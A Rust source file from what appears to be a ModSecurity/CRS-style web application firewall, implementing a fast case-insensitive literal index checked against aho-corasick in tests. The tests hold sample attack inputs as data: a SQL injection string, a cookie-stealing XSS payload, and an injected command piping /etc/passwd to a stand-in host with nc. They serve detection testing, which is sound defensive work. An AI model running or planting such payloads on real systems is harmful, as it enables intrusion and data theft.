//! Which of the plan's literals (2 bytes and longer, ASCII case ignored) occur in a value.
//!
//! Written by hand rather than with `aho-corasick`: the plan's prefilter asks, for every
//! transformed value, for the set of *all* literals it contains (an overlapping search),
//! over ~5,900 literals for CRS v3.3.4 (the `@pm` data files and the `@rx` required
//! literals). The automaton's overlapping search measured 108 instructions per byte of a
//! benign GET's values (its non-contiguous NFA follows sparse transitions, and common
//! two-letter literals stop it at most bytes); its DFA form is 29 MiB. Here a position of the
//! value first probes an exact bitmap of the literals' first two bytes (most positions stop
//! there); then 8 KiB hash bitmaps keyed by the 2, 3 and 4 bytes starting there; only a hit
//! reads its bucket, whose entries are checked on their key and next four bytes before the
//! rest of a longer literal is compared: 58 instructions per byte. The answer is the same set,
//! checked against `aho-corasick` on random and CRS values in the tests.

/// Bits of the bitmaps' hash.
const HASH_BITS: u32 = 16;
/// Bits of the bucket index (the hash's top bits).
const BUCKET_BITS: u32 = 12;

/// ASCII lowercase of every byte (the literals are stored lowercase).
const FOLD: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        t[i] = (i as u8).to_ascii_lowercase();
        i += 1;
    }
    t
};

/// One literal in a [`Table`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
struct Entry {
    /// Its first bytes (2, 3 or 4 of them), little-endian.
    key: u32,
    /// Its bytes 4..8 (little-endian) under `mask`, compared before anything else.
    next: u32,
    mask: u32,
    len: u32,
    id: u32,
}

/// The literals of one key length: 2, 3, or 4 bytes and longer (keyed by their first 4).
#[derive(Debug, Default)]
struct Table {
    /// One bit per hash of a key some literal has.
    bitmap: Vec<u64>,
    /// Bucket `b`'s entries are `entries[starts[b]..starts[b + 1]]`.
    starts: Vec<u32>,
    entries: Vec<Entry>,
}

impl Table {
    fn new(mut entries: Vec<Entry>) -> Table {
        entries.sort_unstable_by_key(|e| (bucket(hash(e.key)), *e));
        let mut bitmap = vec![0u64; (1 << HASH_BITS) / 64];
        let mut starts = vec![0u32; (1 << BUCKET_BITS) + 1];
        for e in &entries {
            let h = hash(e.key);
            if let Some(w) = bitmap.get_mut(h / 64) {
                *w |= 1 << (h % 64);
            }
            if let Some(s) = starts.get_mut(bucket(h) + 1) {
                *s += 1;
            }
        }
        for b in 1..starts.len() {
            let before = starts.get(b - 1).copied().unwrap_or(0);
            if let Some(s) = starts.get_mut(b) {
                *s += before;
            }
        }
        Table {
            bitmap,
            starts,
            entries,
        }
    }

    /// The entries that may have key `key` (none, mostly, after one bitmap probe).
    #[inline]
    fn candidates(&self, key: u32) -> &[Entry] {
        let h = hash(key);
        if self
            .bitmap
            .get(h / 64)
            .is_none_or(|w| w & (1 << (h % 64)) == 0)
        {
            return &[];
        }
        let b = bucket(h);
        match (self.starts.get(b), self.starts.get(b + 1)) {
            (Some(&s), Some(&e)) => self.entries.get(s as usize..e as usize).unwrap_or_default(),
            _ => &[],
        }
    }
}

#[inline]
fn hash(key: u32) -> usize {
    (key.wrapping_mul(0x9e37_79b1) >> (32 - HASH_BITS)) as usize
}

#[inline]
fn bucket(h: usize) -> usize {
    h >> (HASH_BITS - BUCKET_BITS)
}

/// The plan's literals of two bytes and more, indexed for [`LiteralIndex::for_each_in`].
#[derive(Debug)]
pub(crate) struct LiteralIndex {
    two: Table,
    three: Table,
    /// Four bytes and longer.
    long: Table,
    /// One bit per first two bytes of any literal (exact): most positions of a value stop
    /// at this probe.
    starts: Box<[u64; 1024]>,
    /// Literal `i` (lowercase): the bytes after its first eight are compared on a hit.
    literals: Vec<Box<[u8]>>,
}

impl Default for LiteralIndex {
    fn default() -> LiteralIndex {
        LiteralIndex::new(&[])
    }
}

impl LiteralIndex {
    /// Indexes `literals` (any case; literals shorter than two bytes are left out: the plan
    /// reads those off a value's byte set). Literal `i` is reported as `i`.
    pub(crate) fn new(literals: &[Vec<u8>]) -> LiteralIndex {
        let mut tables: [Vec<Entry>; 3] = Default::default();
        let mut stored = Vec::with_capacity(literals.len());
        for (i, lit) in literals.iter().enumerate() {
            let lit = lit.to_ascii_lowercase();
            let table = match lit.len() {
                0 | 1 => None,
                2 => Some(0),
                3 => Some(1),
                _ => Some(2),
            };
            if let Some(t) = table.and_then(|t| tables.get_mut(t)) {
                let after = lit.get(4..).unwrap_or_default();
                let n = after.len().min(4);
                t.push(Entry {
                    key: le_bytes(lit.get(..4).unwrap_or(&lit)),
                    next: le_bytes(after),
                    mask: if n == 4 {
                        u32::MAX
                    } else {
                        (1u32 << (8 * n)) - 1
                    },
                    len: u32::try_from(lit.len()).unwrap_or(u32::MAX),
                    id: u32::try_from(i).unwrap_or(u32::MAX),
                });
            }
            stored.push(lit.into_boxed_slice());
        }
        let mut starts = Box::new([0u64; 1024]);
        for e in tables.iter().flatten() {
            let b = (e.key & 0xffff) as usize;
            starts[b >> 6] |= 1 << (b & 63);
        }
        let [two, three, long] = tables.map(Table::new);
        LiteralIndex {
            two,
            three,
            long,
            starts,
            literals: stored,
        }
    }

    /// Calls `f(i)` for every occurrence of every indexed literal `i` in `value`, ASCII case
    /// ignored (a literal occurring twice is reported twice).
    pub(crate) fn for_each_in(&self, value: &[u8], mut f: impl FnMut(u32)) {
        let n = value.len();
        let byte = |i: usize| u64::from(value.get(i).map_or(0, |&b| FOLD[usize::from(b)]));
        // The folded bytes at i..i+8, little-endian (zeros past the end: each candidate's
        // length is checked against what is left).
        let mut window = (0..7).fold(0u64, |w, k| w | byte(k) << (8 * k));
        for i in 0..n {
            window |= byte(i + 7) << 56;
            let first = (window & 0xffff) as usize;
            if self.starts[first >> 6] & (1 << (first & 63)) == 0 {
                window >>= 8;
                continue;
            }
            let left = n - i;
            let key = window as u32;
            let next = (window >> 32) as u32;
            if left >= 2 {
                for e in self.two.candidates(key & 0xffff) {
                    if e.key == key & 0xffff {
                        f(e.id);
                    }
                }
            }
            if left >= 3 {
                for e in self.three.candidates(key & 0x00ff_ffff) {
                    if e.key == key & 0x00ff_ffff {
                        f(e.id);
                    }
                }
            }
            if left >= 4 {
                for e in self.long.candidates(key) {
                    if e.key != key || next & e.mask != e.next || e.len as usize > left {
                        continue;
                    }
                    let rest = self
                        .literals
                        .get(e.id as usize)
                        .and_then(|l| l.get(8..))
                        .unwrap_or_default();
                    let tail = value.get(i + 8..i + 8 + rest.len()).unwrap_or_default();
                    if tail.len() == rest.len()
                        && tail
                            .iter()
                            .zip(rest.iter())
                            .all(|(a, b)| FOLD[usize::from(*a)] == *b)
                    {
                        f(e.id);
                    }
                }
            }
            window >>= 8;
        }
    }
}

/// Up to the first 4 bytes of `bytes`, little-endian.
fn le_bytes(bytes: &[u8]) -> u32 {
    bytes
        .iter()
        .take(4)
        .enumerate()
        .fold(0, |k, (i, &b)| k | u32::from(b) << (8 * i))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use std::collections::BTreeSet;

    /// `aho-corasick`'s case-insensitive overlapping search over the literals of two bytes
    /// and more: the reference.
    struct Reference {
        ac: aho_corasick::AhoCorasick,
        ids: Vec<u32>,
    }

    impl Reference {
        fn new(literals: &[Vec<u8>]) -> Reference {
            let (ids, long): (Vec<u32>, Vec<&Vec<u8>>) = literals
                .iter()
                .enumerate()
                .filter(|(_, l)| l.len() >= 2)
                .map(|(i, l)| (i as u32, l))
                .unzip();
            let ac = aho_corasick::AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(long)
                .unwrap();
            Reference { ac, ids }
        }

        fn found(&self, value: &[u8]) -> BTreeSet<u32> {
            self.ac
                .find_overlapping_iter(value)
                .map(|m| self.ids[m.pattern().as_usize()])
                .collect()
        }
    }

    fn reference(literals: &[Vec<u8>], value: &[u8]) -> BTreeSet<u32> {
        Reference::new(literals).found(value)
    }

    fn found(index: &LiteralIndex, value: &[u8]) -> BTreeSet<u32> {
        let mut out = BTreeSet::new();
        index.for_each_in(value, |i| {
            out.insert(i);
        });
        out
    }

    #[test]
    fn finds_every_literal_at_every_position_in_any_case() {
        let literals: Vec<Vec<u8>> = [
            "or",
            "union",
            "select",
            "sel",
            "on",
            "a",
            "\u{e9}t\u{e9}",
            "x\0y",
        ]
        .iter()
        .map(|s| s.as_bytes().to_vec())
        .collect();
        let index = LiteralIndex::new(&literals);
        let value = "1 UNION SeLeCt x FROM t OR \u{c9}t\u{e9} \u{e9}t\u{e9}x\0y".as_bytes();
        assert_eq!(found(&index, value), reference(&literals, value));
        assert_eq!(
            found(&index, value),
            [0, 1, 2, 3, 4, 6, 7].into_iter().collect(),
            "one-byte literals are left out; non-ASCII bytes compare exactly"
        );
        // At the very end, and values shorter than a key.
        assert_eq!(found(&index, b"xxor"), [0].into_iter().collect());
        assert_eq!(found(&index, b"o"), BTreeSet::new());
        assert_eq!(found(&index, b""), BTreeSet::new());
        assert_eq!(found(&index, b"sele"), [3].into_iter().collect());
    }

    /// The literals of the plan CRS v3.3.4 (Debian's, which the test command installs)
    /// compiles to, each found in a value that holds it in upper case between other bytes,
    /// and a few realistic values: the same sets as `aho-corasick`'s overlapping search.
    #[test]
    fn agrees_with_aho_corasick_on_crs_literals() {
        let conf = format!(
            "SecRuleEngine On\n{}\nInclude /etc/modsecurity/crs/crs-setup.conf\n\
             Include /usr/share/modsecurity-crs/rules/*.conf\n",
            crate::crs::RECOMMENDED
        );
        let source = crate::seclang::FsSource;
        let directives = crate::seclang::parse(&conf, "/etc/modsecurity/crs/main.conf", &source)
            .unwrap_or_else(|e| {
                panic!("Debian's CRS v3.3.4 (apt-get install modsecurity-crs): {e}")
            });
        let rules = crate::engine::Ruleset::compile(directives, &source).unwrap();
        let index = &rules.plan.literals.index;
        let literals: Vec<Vec<u8>> = index.literals.iter().map(|l| l.to_vec()).collect();
        assert!(literals.len() > 5000, "{} literals", literals.len());
        let mut values: Vec<Vec<u8>> = [
            &b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"[..],
            b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            b"1' UNION SELECT username, password FROM users --",
            b"<script>alert(document.cookie)</script>",
            b"; cat /etc/passwd | nc evil 4444",
            br#"{"order":{"customer":"Jane Doe","items":[{"id":1,"price":3.99}]}}"#,
        ]
        .iter()
        .map(|v| v.to_vec())
        .collect();
        for (i, l) in literals.iter().enumerate() {
            let mut v = b"x".to_vec();
            v.extend(l.to_ascii_uppercase());
            v.extend(literals.get(i + 1).map_or(&[][..], |n| n.as_slice()));
            values.push(v);
        }
        let reference = Reference::new(&literals);
        for v in &values {
            assert_eq!(
                found(index, v),
                reference.found(v),
                "{:?}",
                String::from_utf8_lossy(v)
            );
        }
    }

    proptest! {
        #[test]
        fn agrees_with_aho_corasick(
            literals in proptest::collection::vec(
                proptest::collection::vec(
                    proptest::sample::select(vec![b'a', b'B', b'c', b'D', b'-', b'\0', 0xe9, b'1']),
                    1..7,
                ),
                1..40,
            ),
            value in proptest::collection::vec(
                proptest::sample::select(vec![b'A', b'b', b'C', b'd', b'-', b'\0', 0xe9, 0xc9, b'1', b'x']),
                0..60,
            ),
        ) {
            let index = LiteralIndex::new(&literals);
            prop_assert_eq!(found(&index, &value), reference(&literals, &value));
        }
    }
}
